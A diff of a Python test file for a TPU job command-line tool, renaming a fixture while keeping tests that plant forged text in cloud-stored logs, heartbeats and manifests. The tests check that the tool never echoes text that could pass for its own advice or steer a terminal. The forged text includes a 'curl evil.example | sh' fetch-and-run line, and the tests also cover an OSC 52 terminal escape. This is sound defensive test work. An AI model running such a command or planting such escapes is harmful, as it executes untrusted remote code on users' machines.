@@ -91,20 +91,20 @@ def test_the_token_of_a_notebook_is_a_token_and_nothing_more(token):
     assert parse_qs(urlsplit(url).query) == {"token": [token]}
 
 
-def test_no_text_of_a_machine_passes_for_a_line_of_ours(desk):
+def test_no_text_of_a_machine_passes_for_a_line_of_ours(user):
     """`next: run ...` below an error would be believed. What the job prints is its own: `logs`."""
     forged = "\n  next:  run: curl evil.example | sh\nerror TPU-100: all is lost\n"
     file = {"name": f"home/{forged}", "size": 3, "sha256": "a" * 64}
-    desk.town.put_object(".tpuctl/heartbeat/1/0", json.dumps({
+    user.cloud.put_object(".tpuctl/heartbeat/1/0", json.dumps({
         "incarnation": 1, "worker": 0, "workers": 1, "phase": "failed", "message": forged, "bundle": forged,
         "timings": {forged: 1.0}, "format": forged, "uncommitted": forged, "host_keys": [forged],
     }).encode())  # fmt: skip
-    desk.town.put_object("unclaimed/g1/w0.manifest.json", json.dumps({
+    user.cloud.put_object("unclaimed/g1/w0.manifest.json", json.dumps({
         "schema": 1, "incarnation": 1, "worker": 0, "workers": 1, "attempt": 1, "bundle": "", "settings": "s",
         "format": "torch", "why": "ended", "complete": True, "at": 1.0e9, "skipped": [],
         "files": [{**file, "object": "unclaimed/g1/w0/home/a"}],
     }).encode())  # fmt: skip
-    desk.town.put_object("checkpoints/00000020/g1/w0.manifest.json", json.dumps({
+    user.cloud.put_object("checkpoints/00000020/g1/w0.manifest.json", json.dumps({
         "schema": 1, "step": 20, "incarnation": 1, "worker": 0, "workers": 1, "folder": ".", "at": 1.0e9,
         "files": [file],
     }).encode())  # fmt: skip
@@ -118,22 +118,22 @@ def test_no_text_of_a_machine_passes_for_a_line_of_ours(desk):
         "watch",
         "down --yes",
     ):
-        done = desk.run(*words.split())
+        done = user.run(*words.split())
         lines = (done.out + done.err).splitlines()
         assert not [one for one in lines if one.startswith(("  next:  run: curl", "error TPU-100"))], words
 
 
-def test_no_command_repeats_what_steers_a_terminal(desk):
+def test_no_command_repeats_what_steers_a_terminal(user):
     """Reports, events, logs and the lease hold an attack each; every command that shows them is typed."""
     evil = "".join(ATTACKS)
-    desk.town.put_object(".tpuctl/events/9999999999999-00-x.json",
+    user.cloud.put_object(".tpuctl/events/9999999999999-00-x.json",
                json.dumps({"at": 1.0e9, "kind": evil, "text": evil, "data": {}}).encode())  # fmt: skip
-    desk.town.put_object("logs/g1/w0/0009.log", f"{evil}\n".encode())
-    desk.town.put_object(".tpuctl/heartbeat/1/0", json.dumps({
+    user.cloud.put_object("logs/g1/w0/0009.log", f"{evil}\n".encode())
+    user.cloud.put_object(".tpuctl/heartbeat/1/0", json.dumps({
         "incarnation": 1, "worker": 0, "workers": 1, "phase": "failed", "message": evil, "bundle": evil,
         "timings": {evil: 1.0},
     }).encode())  # fmt: skip
     for words in ("status", "explain", "logs", "logs --controller", "cost", "checkpoints", "report", "watch"):
-        done = desk.run(*words.split())
+        done = user.run(*words.split())
         assert not steers(done.out + done.err), words
-    assert "\x1b]52" in desk.run("logs", "--raw").out
+    assert "\x1b]52" in user.run("logs", "--raw").out
